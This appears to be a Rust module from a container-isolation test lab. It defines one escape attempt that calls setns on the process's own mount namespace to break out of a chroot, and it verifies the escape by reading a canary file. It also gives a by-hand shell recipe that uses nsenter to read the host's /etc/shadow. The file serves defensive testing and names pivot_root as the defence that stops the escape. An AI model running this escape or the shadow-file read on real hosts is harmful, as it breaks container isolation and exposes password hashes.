//! setns-own-mount: enter the mount namespace that one is in.

use super::{Attack, Attempt, Measured, Need};
use crate::inside::canary::canary;
use crate::inside::procfs::procfs;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, OFlag, open};
use nix::libc;
use nix::sched::{CloneFlags, setns};
use nix::sys::stat::Mode;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "setns-own-mount",
    stake: "The host's whole file tree, as far as it is still mounted anywhere in the container's \
            namespace.",
    story: "setns(2) into a mount namespace sets the caller's root and working directory to the root \
            of that namespace. The attacker enters the one that it is in already: if its root was \
            only a chroot, the way out is this one call. Mounts that are hidden by a chroot are \
            still mounted. After pivot_root(2) the root of the namespace is the root file system \
            itself, and without CAP_SYS_ADMIN the call is refused.",
    by_hand: &[
        "[ -e /proc/self ] || mount -t proc proc /proc",
        "nsenter --mount=/proc/self/ns/mnt cat /etc/shadow    # the host's: escaped",
    ],
    stopped_by: &["lab3-pivot/pivot-root"],
    after: &[],
    man: &["setns(2)", "pivot_root(2)", "mount_namespaces(7)"],
    letters: Measured { root: "E EEEBBBB", user: "E EEEBBBB", rootless: "E EEEBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[libc::SYS_mount, libc::SYS_setns, libc::SYS_openat, libc::SYS_pread64],
    attack: Attack::Inside(inside),
    witness,
};

fn inside(me: &mut Inside) -> Result<(), Errno> {
    me.decisive("setns(open(\"/proc/self/ns/mnt\"), CLONE_NEWNS), open(\"/canary\")");
    let own = format!("{}/self/ns/mnt", procfs()?);
    let own = open(own.as_str(), OFlag::O_RDONLY | OFlag::O_CLOEXEC, Mode::empty())?;
    setns(own, CloneFlags::CLONE_NEWNS)?;
    let found = canary(AT_FDCWD, &["/"])?;
    me.bring_out(&found);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("canary") {
        return Seen::Effect(
            "the root of the container's mount namespace is the host's: the attacker has read a file there"
                .into(),
        );
    }
    Seen::Nothing
}
